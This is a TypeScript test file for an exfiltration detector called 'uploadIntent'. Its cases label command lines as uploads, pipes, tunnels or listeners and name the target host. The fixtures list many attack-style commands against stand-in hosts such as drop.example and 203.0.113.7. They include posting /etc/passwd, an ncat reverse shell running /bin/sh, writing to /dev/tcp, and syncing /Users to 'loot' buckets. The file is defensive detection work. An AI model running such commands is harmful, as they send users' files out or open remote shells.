import { describe, expect, it } from 'vitest';
import { uploadIntent } from '../../src/knowledge/index.js';

function intentOf(
  args: readonly string[],
  over: { executable?: string; signingId?: string; script?: string } = {},
) {
  const found = uploadIntent({
    executable: over.executable ?? `/usr/bin/${args[0] ?? ''}`,
    name: args[0] ?? '',
    signingId: over.signingId ?? '',
    args,
    script: over.script ?? '',
  });
  return found && [found.verb, found.strength, found.target];
}

const words = (line: string) => line.split(' ');

describe('uploadIntent: sends data', () => {
  it.each([
    ['curl -T secret.zip https://drop.example/x', 'upload', 'explicit', 'drop.example'],
    ['curl --upload-file secret.zip https://drop.example', 'upload', 'explicit', 'drop.example'],
    ['curl --upload-file=secret.zip https://drop.example', 'upload', 'explicit', 'drop.example'],
    ['curl https://drop.example:8443/a?b -sST secret.zip', 'upload', 'explicit', 'drop.example'],
    ['curl -Tsecret.zip ftp://user:pw@drop.example/', 'upload', 'explicit', 'drop.example'],
    ['curl --upload-fi secret.zip drop.example', 'upload', 'explicit', 'drop.example'],
    ['curl -sSF file=@/tmp/out.zip http://203.0.113.7/x', 'upload', 'explicit', '203.0.113.7'],
    ['curl -H user: -F file=@out.zip http://[2001:db8::1]:80/x', 'upload', 'explicit', '2001:db8::1'],
    ['curl --form a=1 --form file=@out.zip http://drop.example', 'upload', 'explicit', 'drop.example'],
    ['curl -d @body.json https://drop.example', 'upload', 'explicit', 'drop.example'],
    ['curl -d@body.json https://drop.example', 'upload', 'explicit', 'drop.example'],
    ['curl --data-binary @- https://drop.example', 'pipe', 'explicit', 'drop.example'],
    ['curl --data-urlencode body@file https://drop.example', 'upload', 'explicit', 'drop.example'],
    ['curl -X POST -d a=1 https://api.example', 'upload', 'possible', 'api.example'],
    ['curl --data-raw @x https://api.example', 'upload', 'possible', 'api.example'],
    ['curl -K settings.txt', 'upload', 'possible', undefined],
    ['curl -s --url https://drop.example -T a', 'upload', 'explicit', 'drop.example'],
    ['wget --post-file=/etc/passwd https://drop.example/', 'upload', 'explicit', 'drop.example'],
    ['wget --method=PUT --body-file x https://drop.example/', 'upload', 'explicit', 'drop.example'],
    ['wget --post-data a=1 https://drop.example/', 'upload', 'possible', 'drop.example'],
    ['scp -r Documents user@host.example:/tmp', 'upload', 'explicit', 'host.example'],
    ['scp -P 2222 -i key a b host.example:', 'upload', 'explicit', 'host.example'],
    ['scp a scp://user@host.example:22/x', 'upload', 'explicit', 'host.example'],
    ['scp a [2001:db8::1]:/tmp', 'upload', 'explicit', '2001:db8::1'],
    ['scp -3 a.example:x b.example:y', 'upload', 'possible', 'b.example'],
    ['sftp -b batch user@host.example', 'upload', 'possible', 'host.example'],
    ['rsync -az --exclude x Documents host.example:backup', 'upload', 'explicit', 'host.example'],
    ['rsync -e ssh -az . host.example::module', 'upload', 'explicit', 'host.example'],
    ['rsync -a . rsync://host.example/module', 'upload', 'explicit', 'host.example'],
    ['ssh -N -R 2222:localhost:22 u@vps.example -p 443', 'reverse_tunnel', 'explicit', 'vps.example'],
    ['ssh -fNR 80:localhost:3000 serveo.net', 'reverse_tunnel', 'explicit', 'serveo.net'],
    ['ssh vps.example -R 2222:localhost:22', 'reverse_tunnel', 'explicit', 'vps.example'],
    ['ssh -oRemoteForward=1 vps.example', 'reverse_tunnel', 'explicit', 'vps.example'],
    ['ssh -D 1080 vps.example', 'forward', 'explicit', 'vps.example'],
    ['ssh -L8080:db:80 vps.example', 'forward', 'explicit', 'vps.example'],
    ['ssh -w 0:0 vps.example', 'forward', 'explicit', 'vps.example'],
    ['ssh vps.example cat > /tmp/x', 'pipe', 'explicit', 'vps.example'],
    ["ssh git@github.com git-receive-pack 'a/b.git'", 'upload', 'explicit', 'github.com'],
    [
      'ssh -l me host.example rsync --server -vlogDtpre.iLsfxC . backup',
      'upload',
      'explicit',
      'host.example',
    ],
    ['autossh -M 0 -N -R 2222:localhost:22 u@vps.example', 'reverse_tunnel', 'explicit', 'vps.example'],
    ['nc termbin.com 9999', 'pipe', 'possible', 'termbin.com'],
    ['nc -w 3 -N drop.example 443', 'pipe', 'explicit', 'drop.example'],
    ['nc -l 4444', 'listen_tunnel', 'explicit', undefined],
    ['ncat --ssl -e /bin/sh drop.example 443', 'reverse_tunnel', 'explicit', 'drop.example'],
    ['socat TCP-LISTEN:80,fork TCP:inner.example:80', 'forward', 'explicit', 'inner.example'],
    ['socat FILE:/tmp/x OPENSSL:drop.example:443,verify=0', 'upload', 'explicit', 'drop.example'],
    ['lftp -e put\tx;quit sftp://drop.example', 'upload', 'explicit', 'drop.example'],
    ['ftp -u ftp://drop.example/x file', 'upload', 'explicit', 'drop.example'],
    ['rclone copy --transfers 16 /Users/a/Documents loot:bucket', 'upload', 'explicit', 'loot:'],
    [
      'rclone --config c.conf sync /Users/a :s3,provider=Other:bucket --bwlimit 08:00,64k',
      'upload',
      'explicit',
      ':s3,provider=Other:',
    ],
    ['rclone move dir b2:x -P', 'upload', 'explicit', 'b2:'],
    ['rclone rcat drive:dump', 'pipe', 'explicit', 'drive:'],
    ['rclone copy a:x b:y', 'upload', 'possible', 'b:'],
    ['rclone serve http /Users/a', 'listen_tunnel', 'explicit', undefined],
    ['rclone mount drive: /tmp/m', 'upload', 'possible', 'drive:'],
    ['aws s3 cp --recursive /Users/a s3://loot', 'upload', 'explicit', 's3://loot'],
    [
      'aws --profile p s3 sync . s3://loot/x --endpoint-url https://minio.example',
      'upload',
      'explicit',
      'minio.example',
    ],
    ['aws s3api put-object --bucket loot --key k --body f', 'upload', 'explicit', 's3://loot'],
    ['gsutil -m cp -r dir gs://loot/x', 'upload', 'explicit', 'gs://loot'],
    ['gcloud storage rsync dir gs://loot', 'upload', 'explicit', 'gs://loot'],
    [
      'azcopy copy dir https://acct.blob.core.windows.net/c?sig=1',
      'upload',
      'explicit',
      'acct.blob.core.windows.net',
    ],
    ['s3cmd put a s3://loot/', 'upload', 'explicit', 's3://loot'],
    ['s5cmd --endpoint-url https://s3.example cp a s3://loot/', 'upload', 'explicit', 's3.example'],
    ['mc mirror --watch ./data loot/bucket', 'upload', 'explicit', 'loot'],
    ['restic -r sftp:user@host.example:/repo backup /Users', 'upload', 'explicit', 'host.example'],
    ['restic backup /Users', 'upload', 'possible', undefined],
    ['borg create ssh://u@host.example/./repo::a /Users', 'upload', 'explicit', 'host.example'],
    ['git -C repo push origin main', 'upload', 'explicit', 'origin'],
    ['git push https://github.com/a/b', 'upload', 'explicit', 'github.com'],
    ['git-remote-https origin https://github.com/a/b', 'upload', 'possible', 'github.com'],
    ['docker push registry.example:5000/a/b:1', 'upload', 'explicit', 'registry.example'],
    ['docker push a/b', 'upload', 'explicit', 'docker.io'],
    ['npm publish', 'upload', 'explicit', undefined],
    ['croc send a.zip', 'upload', 'explicit', undefined],
    ['wormhole send a.zip', 'upload', 'explicit', undefined],
    ['cloudflared tunnel --url http://localhost:80', 'listen_tunnel', 'explicit', undefined],
    ['cloudflared tunnel run --token x', 'listen_tunnel', 'explicit', undefined],
    ['ngrok http 8000', 'listen_tunnel', 'explicit', undefined],
    ['frpc -c frpc.toml', 'reverse_tunnel', 'explicit', undefined],
    ['chisel client https://s.example R:socks', 'reverse_tunnel', 'explicit', 's.example'],
    ['chisel client s.example 3000', 'forward', 'explicit', 's.example'],
    ['bore local 8000 --to bore.pub', 'listen_tunnel', 'explicit', 'bore.pub'],
    ['npx localtunnel --port 3000', 'listen_tunnel', 'explicit', undefined],
    ['code tunnel --accept-server-license-terms', 'listen_tunnel', 'explicit', undefined],
    ['devtunnel host -p 8000', 'listen_tunnel', 'explicit', undefined],
    ['python3 -m http.server 8000', 'listen_tunnel', 'explicit', undefined],
    ['python3 /opt/homebrew/bin/gsutil cp a gs://loot', 'upload', 'explicit', 'gs://loot'],
    ['node /opt/homebrew/bin/lt --port 80', 'listen_tunnel', 'explicit', undefined],
    ['tailscale file cp a.zip peer:', 'upload', 'explicit', 'peer'],
  ])('%s', (line, verb, strength, target) => {
    expect(intentOf(words(line))).toEqual([verb, strength, target]);
  });

  it.each([
    [
      ['sh', '-c', 'ditto -c -k x /tmp/o.zip && curl -s -F "f=@/tmp/o.zip" http://203.0.113.7/up'],
      'upload',
      '203.0.113.7',
    ],
    [['bash', '-lc', 'tar cz ~/Documents | ssh vps.example dd'], 'pipe', 'vps.example'],
    [['zsh', '-c', 'cat x | nc drop.example 9999'], 'pipe', 'drop.example'],
    [['sh', '-c', 'nc drop.example 9999 < /tmp/o.zip'], 'pipe', 'drop.example'],
    [['bash', '-c', 'cat x > /dev/tcp/203.0.113.7/443'], 'pipe', '203.0.113.7'],
    [['sh', '-c', 'A=1 sudo -n nohup /usr/bin/scp a host.example:b &'], 'upload', 'host.example'],
    [
      [
        'osascript',
        '-e',
        'do shell script "curl -X POST -F \\"file=@/tmp/out.zip\\" http://203.0.113.7/p2p"',
      ],
      'upload',
      '203.0.113.7',
    ],
    [['python3', '-c', "import os; os.system('scp a host.example:b')"], 'upload', 'host.example'],
    [
      ['python3', '-c', "import requests; requests.post('https://drop.example', files={'f': open('x')})"],
      'upload',
      'drop.example',
    ],
  ] as const)('%j', (args, verb, target) => {
    expect(intentOf(args)).toEqual([verb, 'explicit', target]);
  });

  it('reads continued lines and code behind other options', () => {
    const code = '/usr/bin/curl -s --data-binary @x \\\n  https://drop.example';
    expect(intentOf(['bash', '-c', code])).toEqual(['upload', 'explicit', 'drop.example']);
    const script = 'var s = $.NSURLSession.sharedSession; s.uploadTaskWithRequestFromFile(r, f)';
    expect(intentOf(['osascript', '-l', 'JavaScript', '-e', script])).toEqual([
      'upload',
      'explicit',
      undefined,
    ]);
    expect(intentOf(['osascript', '-e', 'beep', '-e', 'do shell script "scp a host.example:"'])?.[0]).toBe(
      'upload',
    );
  });

  it('knows a renamed copy of an Apple tool by its signing id', () => {
    const copy = { executable: '/tmp/x', signingId: 'com.apple.curl' };
    expect(intentOf(['/tmp/x', '-T', 'f', 'https://drop.example'], copy)).toEqual([
      'upload',
      'explicit',
      'drop.example',
    ]);
    expect(
      intentOf(['x', '-R', '1:a:2', 'vps.example'], {
        executable: '/tmp/x',
        signingId: 'com.apple.ssh',
      })?.[0],
    ).toBe('reverse_tunnel');
  });

  it('reads arguments that come without the name of the program', () => {
    expect(intentOf(['-T', 'f', 'https://drop.example'], { executable: '/usr/bin/curl' })?.[0]).toBe(
      'upload',
    );
  });

  it('uses the script the source names when argv was rewritten', () => {
    const python = { executable: '/usr/bin/python3', script: '/opt/homebrew/bin/wormhole' };
    expect(intentOf(['wormhole', 'send', 'x'], python)?.[0]).toBe('upload');
    expect(intentOf(['python3', '-u', '/opt/homebrew/bin/wormhole', 'receive'], python)).toBeUndefined();
  });
});

describe('uploadIntent: sends nothing', () => {
  it.each([
    'curl -fsSL https://example.com/install.sh',
    'curl -o T https://example.com/F',
    'curl -G -d q=1 https://example.com',
    'curl -H X-Token:-T https://example.com',
    'curl --output -T https://example.com',
    'curl -X PUT https://example.com',
    'nscurl --download https://example.com/x',
    'wget -q https://example.com/x',
    'scp user@host.example:/etc/hosts .',
    'scp -r host.example:x host2',
    'scp a b',
    'scp ./a:b c/d:e',
    'sftp user@host.example:file',
    'rsync -a host.example:x .',
    'rsync -a a/ b/',
    'ssh user@host.example',
    'ssh host.example uptime',
    'ssh -p 22 -i key -J jump host.example ls -R',
    "ssh git@github.com git-upload-pack 'a/b.git'",
    'ssh host.example rsync --server --sender -vlogDtpre. . x',
    'nc -z host.example 22',
    'nc -U /tmp/sock',
    'nc',
    'rclone copy drive:x /tmp',
    'rclone sync a b',
    'rclone copy a loot:x --dry-run',
    'rclone lsd loot:',
    'aws s3 cp s3://a/b .',
    'aws s3 sync s3://a s3://b',
    'aws s3 ls s3://a',
    'aws ec2 describe-instances',
    'gsutil cp gs://a/b .',
    'gcloud auth login',
    'azcopy copy https://acct.blob.core.windows.net/c /tmp',
    'mc /Users/a',
    'restic -r /Volumes/Backup backup /Users',
    'restic snapshots',
    'borg create /Volumes/b::a /Users',
    'git pull origin main',
    'git clone https://github.com/a/push',
    'git push --dry-run origin',
    'docker pull a/b',
    'npm install publish',
    'croc 1234-code',
    'wormhole receive',
    'cloudflared tunnel list',
    'cloudflared --version',
    'ngrok version',
    'chisel --help',
    'code .',
    'code tunnel status',
    'devtunnel list',
    'python3 script.py send',
    'python3 -m pip install x',
    'node server.js',
    'dig example.com',
    'nslookup example.com',
    'tailscale status',
    'openssl enc -aes-256-cbc',
  ])('%s', (line) => {
    expect(intentOf(words(line))).toBeUndefined();
  });

  it.each([
    [['sh', '-c', 'curl -fsSL https://example.com | bash']],
    [['sh', '-c', 'echo "scp a host.example:b" > notes']],
    [['sh', '-c', 'scp host.example:a . && ls']],
    [['osascript', '-e', 'display dialog "hello"']],
    [['python3', '-c', 'print(1)']],
    [['perl', 'x.pl', '-e', 'curl -T f https://drop.example']],
    [['bash', 'install.sh', '-c', 'curl -T f https://drop.example']],
  ])('%j', (args) => {
    expect(intentOf(args)).toBeUndefined();
  });

  it('does not take an unknown program for a tool because of its arguments', () => {
    expect(intentOf(['x', '-T', 'f', 'https://drop.example'], { executable: '/tmp/x' })).toBeUndefined();
  });
});
